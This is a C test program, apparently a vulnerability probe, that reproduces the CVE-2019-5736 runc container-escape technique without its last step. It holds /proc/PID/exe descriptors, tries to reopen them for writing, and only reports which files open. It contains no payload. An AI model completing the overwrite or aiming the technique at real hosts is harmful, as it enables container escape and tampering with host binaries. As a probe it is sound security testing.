/*
 * The attack of CVE-2019-5736 without its last step: hold /proc/PID/exe of every process in sight and of this one,
 * and try to open the files for writing, again and again. Prints "DEVICE:INODE" of each file that could be opened for
 * writing, once, and never writes.
 *
 * reopen SECONDS       every process, for so long
 * (any other name)     as the program interpreter of a script or as a dynamic loader: this process's own file, once
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

enum { MOST = 512 };
static int held[MOST];
static struct { dev_t device; ino_t inode; int told; } files[MOST];
static int count;

static void hold(const char *path)
{
	struct stat status;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &status) || count == MOST) {
		if (fd >= 0)
			close(fd);
		return;
	}
	for (int n = 0; n < count; n++)
		if (files[n].device == status.st_dev && files[n].inode == status.st_ino) {
			close(fd);
			return;
		}
	files[count].device = status.st_dev;
	files[count].inode = status.st_ino;
	held[count++] = fd;
}

static void reopen(void)
{
	for (int n = 0; n < count; n++) {
		char path[64];
		snprintf(path, sizeof path, "/proc/self/fd/%d", held[n]);
		int fd = files[n].told ? -1 : open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0) {
			files[n].told = 1;
			printf("%u:%u:%lu\n", major(files[n].device), minor(files[n].device), (unsigned long)files[n].inode);
			fflush(stdout);
			close(fd);
		}
	}
}

int main(int argc, char **argv)
{
	const char *name = strrchr(argv[0], '/');
	if (argc != 2 || strcmp(name ? name + 1 : argv[0], "reopen")) {
		printf("ran as %s\n", argv[0]);
		hold("/proc/self/exe");
		reopen();
		return 0;
	}
	puts("up");
	fflush(stdout);
	time_t end = time(NULL) + atoi(argv[1]);
	while (time(NULL) <= end) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; proc && (entry = readdir(proc));) {
			char path[300];
			if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			hold(path);
		}
		closedir(proc);
		reopen();
	}
	return 0;
}
